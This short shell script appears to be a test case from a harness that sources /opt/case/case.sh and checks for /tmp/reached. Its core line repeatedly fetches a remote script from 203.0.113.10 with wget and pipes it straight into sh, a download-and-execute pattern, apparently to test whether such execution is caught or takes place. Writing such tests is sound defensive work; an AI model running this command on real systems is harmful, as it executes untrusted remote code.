#!/bin/sh
. /opt/case/case.sh

timeout 6 watch -n 1 -t 'wget -qO- http://203.0.113.10/payload.sh | sh' >/dev/null || true
test -e /tmp/reached
took_place
